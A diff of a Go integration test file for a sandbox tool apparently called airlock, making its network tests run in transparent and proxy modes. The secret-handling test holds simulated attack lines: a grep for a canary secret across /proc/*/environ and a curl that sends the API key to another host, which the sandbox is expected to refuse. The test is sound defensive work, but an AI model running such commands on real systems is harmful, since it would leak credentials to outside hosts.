@@ -20,6 +20,8 @@ import (
 	"strings"
 	"sync"
 	"testing"
+
+	"github.com/airlock-dev/airlock/internal/supervisor"
 )
 
 // upstream is the HTTPS server the sandbox talks to. Its certificate is
@@ -116,48 +118,90 @@ func (u *upstream) flags(extra ...string) []string {
 	return append([]string{"run", "-q", "--add-host", "example.com:" + strings.Split(u.addr, ":")[0], "--upstream-ca", u.caFile}, extra...)
 }
 
+// networkModes are the doors this user's sandboxes can take: both where the
+// TAP device can be made (root here), else the proxy only.
+func networkModes() []string {
+	if mode, _, _ := supervisor.NetworkMode(supervisor.ModeAuto); mode == supervisor.ModeTransparent {
+		return []string{supervisor.ModeTransparent, supervisor.ModeProxy}
+	}
+	return []string{supervisor.ModeProxy}
+}
+
+// eachMode runs f once per network mode, as a subtest.
+func eachMode(t *testing.T, f func(t *testing.T, mode string)) {
+	for _, m := range networkModes() {
+		t.Run(m, func(t *testing.T) { f(t, m) })
+	}
+}
+
+func needTransparent(t *testing.T) {
+	t.Helper()
+	if mode, why, _ := supervisor.NetworkMode(supervisor.ModeAuto); mode != supervisor.ModeTransparent {
+		t.Skip("no transparent network for this user: " + why)
+	}
+}
+
 func TestClientsInsideReachAllowedHostsThroughTheGateway(t *testing.T) {
 	u := testUpstream(t)
-	e := newEnv(t)
-	r := e.run(append(u.flags("--allow-host", "example.com"), "--", "sh", "-c", `
+	eachMode(t, func(t *testing.T, mode string) {
+		e := newEnv(t)
+		script := `
 		curl -sS --http2 https://example.com/curl
 		python3 -c 'import urllib.request; print(urllib.request.urlopen("https://example.com/python").read().decode().strip())'
 		git clone -q https://example.com/git/demo.git clone && git -C clone log --format=%s
-		curl -sS -o /dev/null -w "other.test %{http_connect}\n" https://other.test/ 2>/dev/null
-		curl -sS -o /dev/null -w "port 8443 %{http_connect}\n" https://example.com:8443/ 2>/dev/null
-		true`)...)
-	for _, want := range []string{"echo \necho\n", "hello from upstream", "other.test 403", "port 8443 403"} {
-		if !strings.Contains(r.stdout, want) {
-			t.Errorf("missing %q in %v", want, r)
+		curl -sS -o /dev/null -w "other.test %{http_connect} %{exitcode}\n" https://other.test/ 2>/dev/null
+		curl -sS -o /dev/null -w "port 8443 %{http_connect} %{exitcode}\n" https://example.com:8443/ 2>/dev/null
+		true`
+		want := []string{"echo \necho\n", "hello from upstream"}
+		if mode == supervisor.ModeTransparent {
+			// No proxy: a refused name does not resolve (curl: 6), a refused
+			// port is reset (7), and clients that ignore HTTPS_PROXY work.
+			want = append(want, "other.test 000 6", "port 8443 000 7")
+			if node, err := exec.LookPath("node"); err == nil {
+				script = node + ` -e 'fetch("https://example.com/node").then(r => r.text()).then(t => console.log("node", t.trim()))'` + script
+				want = append(want, "node echo")
+			} else {
+				t.Log("node is not installed: fetch from Node.js not tried")
+			}
+		} else {
+			want = append(want, "other.test 403 56", "port 8443 403 56")
 		}
-	}
+		r := e.run(append(u.flags("--network-mode", mode, "--allow-host", "example.com"), "--", "sh", "-c", script)...)
+		for _, w := range want {
+			if !strings.Contains(r.stdout, w) {
+				t.Errorf("missing %q in %v", w, r)
+			}
+		}
+	})
 }
 
 func TestSecretsNeverEnterTheSandbox(t *testing.T) {
 	u := testUpstream(t)
-	e := newEnv(t)
-	real := fmt.Sprintf("sk-canary-%d-value", os.Getpid())
-	c := e.cmd(append(u.flags("--secret", "API_KEY@example.com", "--allow-host", "other.test", "--add-host", "other.test:"+strings.Split(u.addr, ":")[0]), "--", "sh", "-c", `
+	eachMode(t, func(t *testing.T, mode string) {
+		e := newEnv(t)
+		real := fmt.Sprintf("sk-canary-%d-value", os.Getpid())
+		c := e.cmd(append(u.flags("--network-mode", mode, "--secret", "API_KEY@example.com", "--allow-host", "other.test", "--add-host", "other.test:"+strings.Split(u.addr, ":")[0]), "--", "sh", "-c", `
 		echo "env: $API_KEY"
 		grep -als sk-canary /proc/[0-9]*/environ
 		curl -sS https://example.com/with-secret -H "Authorization: Bearer $API_KEY"
 		curl -sS -o /dev/null -w "exfil %{http_code}\n" "https://other.test/?k=$API_KEY" 2>/dev/null
 		true`)...)
-	c.Env = e.environ("API_KEY=" + real)
-	r := e.runCmd(c)
-	if strings.Contains(r.stdout, real) {
-		t.Fatalf("the real value reached the sandbox: %v", r)
-	}
-	if !strings.Contains(r.stdout, "env: airlock-ph-") {
-		t.Errorf("the sandbox should see a placeholder: %v", r)
-	}
-	if got := u.received(t); !strings.Contains(got, "GET /with-secret Bearer "+real) {
-		t.Errorf("upstream should have received the real value; it logged:\n%s", got)
-	}
-	if !strings.Contains(r.stdout, "exfil 403") {
-		t.Errorf("a placeholder toward another host should be refused with 403: %v", r)
-	}
-	if strings.Contains(r.stdout, "/environ") {
-		t.Errorf("a process inside has the value in its environment: %v", r)
-	}
+		c.Env = e.environ("API_KEY=" + real)
+		r := e.runCmd(c)
+		if strings.Contains(r.stdout, real) {
+			t.Fatalf("the real value reached the sandbox: %v", r)
+		}
+		if !strings.Contains(r.stdout, "env: airlock-ph-") {
+			t.Errorf("the sandbox should see a placeholder: %v", r)
+		}
+		if got := u.received(t); !strings.Contains(got, "GET /with-secret Bearer "+real) {
+			t.Errorf("upstream should have received the real value; it logged:\n%s", got)
+		}
+		if !strings.Contains(r.stdout, "exfil 403") {
+			t.Errorf("a placeholder toward another host should be refused with 403: %v", r)
+		}
+		if strings.Contains(r.stdout, "/environ") {
+			t.Errorf("a process inside has the value in its environment: %v", r)
+		}
+	})
 }
